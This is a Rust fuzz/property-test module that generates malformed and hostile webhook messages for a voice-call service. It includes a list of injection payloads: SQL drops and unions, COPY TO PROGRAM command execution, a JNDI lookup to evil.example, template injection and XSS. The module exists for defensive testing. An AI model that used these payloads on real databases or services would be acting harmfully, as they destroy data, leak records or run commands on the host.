//! Hostile Vapi payloads: proptest strategies for whole messages whose every field may be
//! missing, null, of the wrong JSON type, huge, exotic unicode, `\u0000`, an SQL injection, an
//! out-of-range number or an invalid timestamp, plus extra fields and deep nesting; and a
//! mutator of the fixture payloads (tests/fixtures/vapi) at the JSON and at the byte level.
//!
//! Some inputs cannot be expressed as a `serde_json::Value` (numbers beyond f64, lone UTF-16
//! surrogate escapes, nesting deeper than serde_json's recursion limit): they are written as
//! placeholders and substituted into the serialized text ([`finish`]).

use proptest::prelude::*;
use proptest::sample::select;
use serde_json::{json, Map, Value};

use crate::figures::Rng;

/// Strings an attacker would try in a text field. All must be stored verbatim where the field
/// is stored (tests/attacks.rs), and never break anything here.
pub const SQL_INJECTIONS: &[&str] = &[
    "'; DROP TABLE voxanne.calls; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\"; DROP TABLE voxanne.outbox; --",
    "Robert'); DROP TABLE students;--",
    "$$; DELETE FROM voxanne.agents; $$",
    "$body$ || (SELECT string_agg(org_id::text, ',') FROM voxanne.agents) || $body$",
    "' || (SELECT org_id::text FROM voxanne.agents LIMIT 1) || '",
    "'); UPDATE voxanne.calls SET org_id = gen_random_uuid(); --",
    "1; SELECT pg_sleep(10)",
    "\\'; COPY voxanne.calls TO PROGRAM 'id'; --",
    "E'\\x27' OR true",
    "/**/UNION/**/SELECT/**/*/**/FROM/**/voxanne.processed_webhook_events",
    "%s%s%s%n%x",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\\\\\\'\\\"",
    "status:x:ringing",
    "report:",
    "NULL",
    "null",
    "-- ",
    ";",
];

/// Exotic but valid text.
pub const UNICODE: &[&str] = &[
    "ünïcödé",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "日本語のテキスト",
    "مرحبا بالعالم",
    "e\u{301}\u{302}\u{303}",
    "\u{200b}\u{200c}\u{200d}\u{feff}",
    "\u{2028}\u{2029}",
    "\u{10ffff}\u{e000}",
    "\t\r\n\u{7}\u{1b}[31m",
    "a\u{202e}evil\u{202c}b",
];

/// Text that cannot be stored in PostgreSQL text: jsonb refuses `\u0000` (22P05).
pub const NUL: &str = "before\u{0}after";

/// Raw JSON fragments substituted for placeholders after serialization.
pub fn raw_fragments() -> Vec<String> {
    let deep_array = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let deep_object = |n: usize| format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n));
    vec![
        "1e400".into(),
        "-1e400".into(),
        format!("1{}", "0".repeat(400)),
        "1.7976931348623157e309".into(),
        "1e-400".into(),
        "123456789012345678901234567890".into(),
        "-0".into(),
        "1E+2".into(),
        "\"\\ud800\"".into(),
        "\"x\\udc00y\"".into(),
        "\"\\u0000\"".into(),
        "\"a\\u0000b\"".into(),
        deep_array(100),
        deep_array(129),
        deep_array(300),
        deep_array(5000),
        deep_object(129),
        deep_object(1000),
    ]
}

fn raw(i: usize) -> Value {
    Value::String(format!("__RAW_{i}__"))
}

/// Serialize `v`, substituting placeholders.
pub fn finish(v: &Value) -> String {
    let mut text = v.to_string();
    if text.contains("\"__RAW_") {
        for (i, fragment) in raw_fragments().iter().enumerate().rev() {
            text = text.replace(&format!("\"__RAW_{i}__\""), fragment);
        }
    }
    text
}

/// Ids and names the generated messages use.
#[derive(Debug, Clone)]
pub struct Ctx {
    pub assistant: String,
    pub phone: String,
    pub calls: Vec<String>,
}

fn huge(n: usize, unit: &'static str) -> String {
    unit.repeat(n / unit.len() + 1)
}

fn wrong_type() -> BoxedStrategy<Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
        Just(json!([])),
        Just(json!({})),
        Just(json!([1, "two", null])),
        Just(json!({"nested": {"deeper": [1, 2, {"x": "y"}]}})),
    ]
    .boxed()
}

/// Strings of every kind, for text fields.
fn nasty_text() -> BoxedStrategy<Value> {
    prop_oneof![
        30 => select(SQL_INJECTIONS).prop_map(Value::from),
        30 => select(UNICODE).prop_map(Value::from),
        10 => Just(Value::from(NUL)),
        10 => Just(Value::from("")),
        10 => Just(Value::from(" ")),
        20 => any::<String>().prop_map(Value::from),
        10 => select(vec![256usize, 300, 2049, 4000]).prop_flat_map(|n| select(vec!["x", "é", "😀"]).prop_map(move |u| Value::from(huge(n, u)))),
        2 => select(vec![32 * 1024 + 1, 65 * 1024, 70_000]).prop_map(|n| Value::from(huge(n, "ab"))),
    ]
    .boxed()
}

/// A few ordinary words (a regex strategy is ten times slower to generate in a debug build).
fn words() -> BoxedStrategy<Value> {
    const WORDS: &[&str] = &[
        "hello", "I'd", "like", "to", "book", "a", "cleaning", "on", "Tuesday", "at", "3pm,", "please.", "Sure!",
        "what", "time", "works?", "O'Brien", "isn't", "here", "—", "ok", "bye",
    ];
    proptest::collection::vec(select(WORDS), 1..14).prop_map(|w| Value::from(w.join(" "))).boxed()
}

/// Bad numbers for cost, duration and timestamps.
fn nasty_number() -> BoxedStrategy<Value> {
    prop_oneof![
        select(vec![-1.0f64, -0.01, 604_801.0, 1_000_000.01, 1e15, 1e300, -1e300, 5e-324, f64::MAX, f64::MIN])
            .prop_map(Value::from),
        select(vec![i64::MIN, i64::MAX, -1, 0]).prop_map(Value::from),
        Just(Value::from(u64::MAX)),
        Just(Value::from("12.5")),
        Just(Value::from("NaN")),
        Just(Value::from("Infinity")),
    ]
    .boxed()
}

fn timestamp() -> BoxedStrategy<Value> {
    let t0 = crate::vapi::T0_MS;
    prop_oneof![
        6 => (0i64..86_400_000).prop_map(move |d| Value::from(t0 + d)),
        2 => (0i64..86_400_000).prop_map(move |d| Value::from((t0 + d) as f64 + 0.5)),
        2 => (0i64..86_400_000).prop_map(move |d| Value::from(crate::vapi::iso(t0 + d))),
        1 => select(vec![
            "yesterday", "", "now", "2026-13-45T99:00:00Z", "2026-11-25", "2026-11-25 10:00:00",
            "2026-11-25T10:00:00+25:00", "9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z",
            "-infinity", "infinity", "294277-01-01T00:00:00Z", "1970-01-01T00:00:00.0000000001Z",
            "2026-11-25T10:00:00.123456789+05:30", "2026-02-29T00:00:00Z",
        ])
        .prop_map(Value::from),
        1 => select(vec![-1.0f64, 0.0, 1e300, -1e300, 9.3e18, -9.3e18, 253_402_300_800_000.0, -210_866_803_200_001.0, 9_224_318_016_000_000.0])
            .prop_map(Value::from),
        1 => wrong_type(),
    ]
    .boxed()
}

/// `Some(valid)` mostly, else missing, null, the wrong type, or `bad`.
fn field(valid: BoxedStrategy<Value>, bad: BoxedStrategy<Value>) -> BoxedStrategy<Option<Value>> {
    prop_oneof![
        12 => valid.prop_map(Some),
        1 => Just(None),
        1 => Just(Some(Value::Null)),
        1 => wrong_type().prop_map(Some),
        2 => bad.prop_map(Some),
    ]
    .boxed()
}

fn put(m: &mut Map<String, Value>, key: &str, v: Option<Value>) {
    if let Some(v) = v {
        m.insert(key.to_string(), v);
    }
}

/// A JSON value of bounded depth, for extra fields.
fn any_json() -> BoxedStrategy<Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        nasty_text(),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            proptest::collection::btree_map(
                select(vec!["a", "b", "id", "org_id", "orgId", "message", "call", "ünï", ""]),
                inner,
                0..4
            )
            .prop_map(|m| Value::Object(m.into_iter().map(|(k, v)| (k.to_string(), v)).collect())),
        ]
    })
    .boxed()
}

fn extras() -> BoxedStrategy<Vec<(String, Value)>> {
    proptest::collection::vec(
        (
            prop_oneof![
                select(vec!["org_id", "orgId", "tenant", "__proto__", "constructor", "ünïcödé", "", "message", "type"])
                    .prop_map(String::from),
                proptest::collection::vec(select(vec!["a", "x", "call", "id", "Z", "9", "_"]), 1..6)
                    .prop_map(|p| p.concat()),
                Just(huge(300, "k")),
            ],
            prop_oneof![40 => any_json(), 1 => (0..raw_fragments().len()).prop_map(raw)],
        ),
        0..3,
    )
    .boxed()
}

/// The `call` object.
fn call(ctx: &Ctx) -> BoxedStrategy<Value> {
    let ids = prop_oneof![
        8 => select(ctx.calls.clone()).prop_map(Value::from),
        1 => select(SQL_INJECTIONS).prop_map(Value::from),
        1 => select(UNICODE).prop_map(Value::from),
    ]
    .boxed();
    let assistant = prop_oneof![
        10 => Just(Value::from(ctx.assistant.clone())),
        1 => Just(Value::from("asst_nobody_has_this")),
        1 => Just(Value::from("")),
    ]
    .boxed();
    let phone = prop_oneof![
        4 => Just(Value::from(ctx.phone.clone())),
        1 => Just(Value::from("pn_nobody_has_this")),
    ]
    .boxed();
    let call_type = select(vec!["inboundPhoneCall", "outboundPhoneCall", "webCall"]).prop_map(Value::from).boxed();
    let number = select(vec!["+15551230001", "+442071234567", "0", "not a number"]).prop_map(Value::from).boxed();
    (
        field(ids, nasty_text()),
        field(assistant, nasty_text()),
        field(call_type, nasty_text()),
        field(number.prop_map(|n| json!({ "number": n })).boxed(), nasty_text()),
        field(phone, nasty_text()),
        extras(),
    )
        .prop_map(|(id, assistant, call_type, customer, phone, extra)| {
            let mut m = Map::new();
            put(&mut m, "id", id);
            put(&mut m, "assistantId", assistant);
            put(&mut m, "type", call_type);
            put(&mut m, "customer", customer);
            put(&mut m, "phoneNumberId", phone);
            for (k, v) in extra {
                m.insert(k, v);
            }
            Value::Object(m)
        })
        .boxed()
}

fn message_type() -> BoxedStrategy<Value> {
    prop_oneof![
        6 => Just(Value::from("status-update")),
        5 => Just(Value::from("transcript")),
        1 => Just(Value::from("transcript[transcriptType=\"final\"]")),
        4 => Just(Value::from("end-of-call-report")),
        1 => select(vec!["speech-update", "hang", "tool-calls", "assistant-request", "conversation-update", "model-output", "", "STATUS-UPDATE", "transcript[", "end-of-call-report "]).prop_map(Value::from),
        1 => wrong_type(),
    ]
    .boxed()
}

/// A whole message: `{"message": {...}}` with fields of every type, or a broken envelope.
pub fn message(ctx: &Ctx) -> BoxedStrategy<String> {
    let status = select(vec![
        "scheduled",
        "queued",
        "ringing",
        "in-progress",
        "forwarding",
        "ended",
        "dialing",
        "RINGING",
        "ended ",
    ])
    .prop_map(Value::from)
    .boxed();
    let role = select(vec!["user", "assistant", "bot", "system", "USER"]).prop_map(Value::from).boxed();
    let ttype = select(vec!["final", "partial", "draft", "FINAL"]).prop_map(Value::from).boxed();
    let words = prop_oneof![
        4 => words(),
        1 => select(UNICODE).prop_map(Value::from),
    ]
    .boxed();
    let url = select(vec![
        "https://recordings.example.com/a.wav",
        "http://recordings.example.com/b.wav",
        "ftp://recordings.example.com/c.wav",
        "javascript:alert(1)",
        "https://",
        "HTTPS://EXAMPLE.COM/UPPER.wav",
    ])
    .prop_map(Value::from)
    .boxed();
    let money =
        prop_oneof![4 => (0.0f64..100.0).prop_map(Value::from), 1 => (0i64..1000).prop_map(Value::from)].boxed();
    let duration = prop_oneof![4 => (0.0f64..7200.0).prop_map(Value::from), 1 => Just(Value::from(604_800))].boxed();
    let iso = (0i64..86_400_000).prop_map(|d| Value::from(crate::vapi::iso(crate::vapi::T0_MS + d))).boxed();
    let big_text = prop_oneof![
        80 => words.clone(),
        1 => select(vec![1024 * 1024 + 1, 200_000]).prop_map(|n| Value::from(huge(n, "t"))),
    ]
    .boxed();
    let fields = (
        (
            message_type(),
            field(status, nasty_text()),
            field(timestamp(), timestamp()),
            field(call(ctx), wrong_type()),
            field(Just(json!({"id": ctx.assistant})).boxed(), wrong_type()),
            field(role, nasty_text()),
            field(ttype, nasty_text()),
            field(words.clone(), nasty_text()),
        ),
        (
            field(words.clone(), nasty_text()),
            field(iso.clone(), timestamp()),
            field(iso, timestamp()),
            field(money, nasty_number()),
            field(duration, nasty_number()),
            field(words.clone().prop_map(|s| json!({ "summary": s })).boxed(), wrong_type()),
            field(
                (big_text, url.clone()).prop_map(|(t, u)| json!({"transcript": t, "recordingUrl": u})).boxed(),
                wrong_type(),
            ),
            field(url, nasty_text()),
        ),
        extras(),
        0..20u8,
        prop_oneof![30 => Just(None), 1 => (0..raw_fragments().len()).prop_map(Some)],
    );
    fields
        .prop_map(
            |(
                (kind, status, ts, call, assistant, role, ttype, text),
                (reason, started, ended, cost, duration, analysis, artifact, legacy_url),
                extra,
                envelope,
                fragment,
            )| {
                let mut m = Map::new();
                m.insert("type".into(), kind);
                put(&mut m, "status", status);
                put(&mut m, "timestamp", ts);
                put(&mut m, "call", call);
                if envelope % 4 == 0 {
                    put(&mut m, "assistant", assistant);
                }
                put(&mut m, "role", role);
                put(&mut m, "transcriptType", ttype);
                put(&mut m, "transcript", text);
                put(&mut m, "endedReason", reason);
                put(&mut m, "startedAt", started);
                put(&mut m, "endedAt", ended);
                put(&mut m, "cost", cost);
                put(&mut m, "durationSeconds", duration);
                put(&mut m, "analysis", analysis);
                put(&mut m, "artifact", artifact);
                if envelope % 5 == 1 {
                    put(&mut m, "recordingUrl", legacy_url);
                }
                for (k, v) in extra {
                    m.insert(k, v);
                }
                // rarely, a number beyond f64, a lone surrogate or deep nesting in a field
                if let Some(i) = fragment {
                    let field = ["timestamp", "cost", "durationSeconds", "transcript", "extra"][i % 5];
                    m.insert(field.into(), raw(i));
                }
                let body = match envelope {
                    0 => json!(Value::Object(m)),                // no envelope
                    1 => json!({"message": [Value::Object(m)]}), // message is an array
                    2 => json!({"msg": Value::Object(m)}),       // wrong key
                    3 => json!([{"message": Value::Object(m)}]), // body is an array
                    _ => json!({"message": Value::Object(m)}),
                };
                finish(&body)
            },
        )
        .boxed()
}

// ---------------------------------------------------------------------------------------------
// Mutation of the fixtures

/// The fixture payloads, with the fixtures' assistant, phone number and call ids replaced by
/// the context's.
pub fn fixtures(ctx: &Ctx) -> Vec<(String, Value)> {
    let dir = crate::figures::workspace_root().join("tests/fixtures/vapi");
    let mut out = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    entries.sort();
    for (i, path) in entries.into_iter().enumerate() {
        let text = std::fs::read_to_string(&path).unwrap();
        let text = text
            .replace("asst_fixture", &ctx.assistant)
            .replace("pn_fixture", &ctx.phone)
            .replace("2f6d4c1e-0b8a-4d51-9a57-0f3c9e1b7a10", &ctx.calls[i % ctx.calls.len()])
            .replace("7c1e9a2b-5d3f-4e60-8a71-b2c3d4e5f607", &ctx.calls[(i + 1) % ctx.calls.len()]);
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        out.push((name, serde_json::from_str(&text).unwrap()));
    }
    out
}

/// Paths (as key/index lists) of every value inside `v`.
fn paths(v: &Value, prefix: &mut Vec<Value>, out: &mut Vec<Vec<Value>>) {
    out.push(prefix.clone());
    match v {
        Value::Object(m) => {
            for (k, child) in m {
                prefix.push(Value::from(k.clone()));
                paths(child, prefix, out);
                prefix.pop();
            }
        }
        Value::Array(a) => {
            for (i, child) in a.iter().enumerate() {
                prefix.push(Value::from(i));
                paths(child, prefix, out);
                prefix.pop();
            }
        }
        _ => {}
    }
}

fn at_mut<'a>(v: &'a mut Value, path: &[Value]) -> Option<&'a mut Value> {
    let mut cur = v;
    for p in path {
        cur = match p {
            Value::String(k) => cur.as_object_mut()?.get_mut(k)?,
            Value::Number(i) => cur.as_array_mut()?.get_mut(i.as_u64()? as usize)?,
            _ => return None,
        };
    }
    Some(cur)
}

/// A value an attacker or a broken sender could put anywhere.
fn replacement(rng: &mut Rng, ctx: &Ctx, old: &Value) -> Value {
    match rng.below(16) {
        0 => Value::Null,
        1 => Value::from(rng.chance(0.5)),
        2 => Value::from(rng.next_u64() as i64),
        3 => Value::from(f64::from_bits(rng.next_u64() & 0x7fef_ffff_ffff_ffff)),
        4 => Value::from(*rng.pick(SQL_INJECTIONS)),
        5 => Value::from(*rng.pick(UNICODE)),
        6 => Value::from(NUL),
        7 => {
            let n = *rng.pick(&[256usize, 2049, 33_000, 70_000]);
            let unit = ["x", "é", "😀"][rng.below(3)];
            Value::from(huge(n, unit))
        }
        8 => raw(rng.below(raw_fragments().len())),
        9 => json!([old.clone()]),
        10 => json!({ "value": old.clone() }),
        11 => Value::from(""),
        12 => match old {
            Value::Number(n) => Value::from(-n.as_f64().unwrap_or(1.0) * 1e300),
            Value::String(s) => Value::from(s.chars().rev().collect::<String>()),
            _ => Value::from(ctx.calls[rng.below(ctx.calls.len())].clone()),
        },
        13 => {
            Value::from(*rng.pick(&["yesterday", "2026-13-45T99:00:00Z", "ended", "final", "partial", "user", "robot"]))
        }
        14 => Value::from(ctx.calls[rng.below(ctx.calls.len())].clone()),
        _ => json!({}),
    }
}

/// 1-4 JSON-level mutations of a fixture, then, sometimes, byte-level damage to the text.
pub fn mutate(rng: &mut Rng, ctx: &Ctx, base: &Value) -> String {
    let mut v = base.clone();
    for _ in 0..1 + rng.below(4) {
        let mut all = Vec::new();
        paths(&v, &mut Vec::new(), &mut all);
        let path = all[rng.below(all.len())].clone();
        match rng.below(5) {
            // delete the key (or the whole message)
            0 if !path.is_empty() => {
                let (last, parent) = path.split_last().unwrap();
                if let (Some(Value::Object(m)), Value::String(k)) = (at_mut(&mut v, parent), last) {
                    m.remove(k);
                }
            }
            // add an extra field
            1 => {
                if let Some(Value::Object(m)) = at_mut(&mut v, &path) {
                    let key = rng.pick(&["org_id", "orgId", "extra", "ünï", "", "id", "type"]).to_string();
                    m.insert(key, replacement(rng, ctx, &Value::Null));
                }
            }
            _ => {
                if let Some(slot) = at_mut(&mut v, &path) {
                    let old = slot.clone();
                    *slot = replacement(rng, ctx, &old);
                }
            }
        }
    }
    let mut text = finish(&v);
    if rng.chance(0.15) {
        let mut bytes = text.into_bytes();
        for _ in 0..1 + rng.below(3) {
            if bytes.is_empty() {
                break;
            }
            let i = rng.below(bytes.len());
            match rng.below(4) {
                0 => {
                    const NOISE: &[u8] = b" {}[]\":,\\0a-e9";
                    bytes[i] = NOISE[rng.below(NOISE.len())];
                }
                1 => {
                    let end = (i + 1 + rng.below(8)).min(bytes.len());
                    bytes.drain(i..end);
                }
                2 => bytes.truncate(i),
                _ => {
                    let chunk: Vec<u8> = bytes[i..(i + 8).min(bytes.len())].to_vec();
                    bytes.splice(i..i, chunk);
                }
            }
        }
        // the SQL path needs UTF-8 text; the relay gets the raw bytes (fuzz_relay)
        text = String::from_utf8_lossy(&bytes).into_owned();
    }
    text
}
